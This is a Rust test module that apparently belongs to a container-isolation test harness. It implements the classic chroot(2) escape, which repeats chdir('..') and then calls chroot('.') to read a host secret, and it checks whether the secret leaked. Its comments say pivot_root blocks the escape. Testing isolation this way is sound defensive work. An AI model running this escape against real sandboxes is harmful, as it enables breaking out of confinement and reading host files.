//! Break out of chroot(2): whoever may call it again moves the root below the working directory,
//! and is outside.
//!
//! Stopped by `pivot-root`: what is above the root of the mount namespace is nothing. The same
//! steps end in the container. ENOENT. See chroot(2), pivot_root(2).

use nix::unistd::{chdir, chroot};

use super::{Attempt, Host, Seen, told, when};

/// First it locks itself up, as a runtime that knows nothing but chroot(2) would do it.
pub fn attack() -> Attempt {
    let host = told("HOST")?;
    let jail = format!("{host}/jail");
    std::fs::create_dir_all(&jail)?;
    chdir("/")?;
    chroot(jail.as_str())?;
    for _ in 0..32 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(std::fs::read_to_string(host + "/secret")?)
}

/// It knows what nobody has told it.
pub fn harm(host: &mut Host, seen: &Seen) -> Option<String> {
    when(seen.text.contains(&host.secret), "it knows the host's secret")
}
